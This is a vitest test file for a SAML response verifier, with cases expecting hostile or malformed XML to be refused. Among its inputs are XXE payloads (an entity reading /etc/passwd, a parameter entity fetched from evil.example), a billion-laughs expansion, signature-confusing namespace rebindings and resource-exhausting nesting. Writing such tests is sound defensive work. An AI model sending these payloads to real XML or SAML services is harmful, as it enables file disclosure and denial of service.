import { expect, test } from 'vitest'
import { verifyResponse } from './response.ts'
import { altered, neverSeen, testRefused, type Case } from './testing/cases.ts'
import { encode, idp, now, requestId, signedResponse, sp } from './testing/make-response.ts'

const before = (text: string) => () => text + signedResponse()
const after = (text: string) => () => signedResponse() + text
const nested = (depth: number) => () =>
  altered('</saml:Subject>', `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</saml:Subject>`)()

const doctypes: Case[] = [
  ['a DOCTYPE alone', 'doctype', before('<!DOCTYPE Response>')],
  ['a DOCTYPE in small letters', 'doctype', before('<!doctype Response>')],
  [
    'an external entity',
    'doctype',
    () => `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${altered('staff-4711', '&x;')()}`,
  ],
  [
    'an external parameter entity',
    'doctype',
    before('<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x"> %x;]>'),
  ],
  [
    'a billion laughs',
    'doctype',
    before(
      `<!DOCTYPE r [<!ENTITY a0 "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')}]>`,
    ),
  ],
  ['an entity that nobody declared', 'unreadable', altered('staff-4711', '&owner;')],
]

const malformed: Case[] = [
  ['nothing', 'unreadable', () => ''],
  ['no XML', 'unreadable', () => 'SAMLResponse'],
  ['text after the end', 'unreadable', after('x')],
  ['a second root', 'unreadable', after('<a/>')],
  ['a comment after the end', 'unreadable', after('<!-- x -->')],
  ['an instruction before the beginning', 'unreadable', before('<?x y?>')],
  ['text beside the assertion', 'unreadable', altered('</saml:Assertion>', '</saml:Assertion>x')],
  ['tags that cross', 'unreadable', altered('</saml:Subject>', '<a><b></a></b></saml:Subject>')],
  ['a tag left open', 'unreadable', altered('</saml:Subject>', '')],
  ['a cut document', 'unreadable', () => signedResponse().slice(0, -20)],
  ['an attribute twice', 'unreadable', altered('ID="_assertion1"', 'ID="_assertion1" ID="_other"')],
  [
    'an attribute twice by two prefixes',
    'unreadable',
    altered('<saml:Subject>', '<saml:Subject xmlns:a="urn:x" xmlns:b="urn:x" a:y="1" b:y="2">'),
  ],
  ['an attribute without quotes', 'unreadable', altered('ID="_assertion1"', 'ID=_assertion1')],
  ['a prefix that nobody declared', 'unreadable', altered('<saml:Subject>', '<saml:Subject><evil:a/>')],
  ['a declaration taken back', 'unreadable', altered('<saml:Subject>', '<saml:Subject xmlns:saml="">')],
  ['the prefix xml bound anew', 'unreadable', altered('<saml:Subject>', '<saml:Subject xmlns:xml="urn:x">')],
  [
    'an attribute that hides as a declaration',
    'unreadable',
    altered('<saml:Subject>', '<saml:Subject xmlnsx="1">'),
  ],
  ['a reference to no character', 'unreadable', altered('staff-4711', 'staff-4711&#0;')],
  ['a reference to half a character', 'unreadable', altered('staff-4711', 'staff-4711&#xD800;')],
  ['a character that XML does not have', 'unreadable', altered('staff-4711', 'staff-4711\u0000')],
  ['the end of CDATA in text', 'unreadable', altered('staff-4711', 'staff-4711]]>')],
  ['another encoding', 'unreadable', before('<?xml version="1.0" encoding="UTF-16"?>')],
  ['XML 1.1', 'unreadable', before('<?xml version="1.1"?>')],
  ['41 levels', 'unreadable', nested(41)],
  ['20,000 levels', 'unreadable', nested(20_000)],
  ['5,000 elements', 'unreadable', altered('</saml:Subject>', `${'<a/>'.repeat(5000)}</saml:Subject>`)],
  [
    '9,000 attributes',
    'unreadable',
    altered(
      '<saml:Subject>',
      `<saml:Subject ${Array.from({ length: 9000 }, (_, i) => `a${i}="" `).join('')}>`,
    ),
  ],
  ['more than 256 kB', 'too_large', altered('staff-4711', 'x'.repeat(256 * 1024))],
  [
    'a signed element moved to another namespace',
    'wrong_signature',
    altered(/saml:Subject>/gu, 'samlp:Subject>'),
  ],
  [
    'a prefix bound to another namespace further in',
    'wrong_signature',
    altered('<saml:Subject>', '<saml:Subject xmlns:saml="urn:evil">'),
  ],
]

testRefused([...doctypes, ...malformed])

const asPosted = (samlResponse: string) =>
  verifyResponse({ samlResponse, idp, sp, expected: { requestId }, now, replay: neverSeen })

const padded = () =>
  ['', ' ', '  '].map((space) => encode(signedResponse() + space)).find((field) => field.endsWith('=')) ?? ''

test.each([
  ['signs that base64 does not have', '!!!'],
  ['base64 of another alphabet', encode('<ä>>>???').replaceAll('+', '-').replaceAll('/', '_')],
  ['base64 that ends too soon', encode(signedResponse()).slice(0, -3)],
  ['base64 without its padding', padded().replace(/=+$/u, '')],
  [
    'invalid UTF-8 in a name',
    Buffer.from(signedResponse().replace('staff-4711', 'staff-\u00FF'), 'latin1').toString('base64'),
  ],
  ['padding in the middle', `${encode('<a')}${encode('/>')}`],
  ['the XML itself', signedResponse()],
  ['invalid UTF-8', Buffer.from([0x3c, 0x61, 0xff, 0x2f, 0x3e]).toString('base64')],
  ['UTF-16', Buffer.from(signedResponse(), 'utf16le').toString('base64')],
])('refused as it was posted: %s', async (_, field) => {
  expect(await asPosted(field)).toEqual({ ok: false, reason: 'unreadable' })
})

test('a field far too large is refused before it is decoded', async () => {
  expect(await asPosted('A'.repeat(10_000_000))).toEqual({ ok: false, reason: 'too_large' })
})

test.each([
  ['open tags', '<a>'.repeat(80_000)],
  ['attributes', `<a ${'b="" '.repeat(50_000)}/>`],
  ['spaces in a tag', `<a${' '.repeat(250_000)}`],
  ['quotes left open', `<a ${'b=" '.repeat(60_000)}`],
  ['references', `<a>${'&'.repeat(250_000)}</a>`],
  ['less-than signs', '<'.repeat(250_000)],
])('%s without end are refused within a blink', async (_, xml) => {
  const start = process.threadCpuUsage()
  expect(await asPosted(encode(xml))).toEqual({ ok: false, reason: 'unreadable' })
  expect(process.threadCpuUsage(start).user / 1000).toBeLessThan(2000)
})
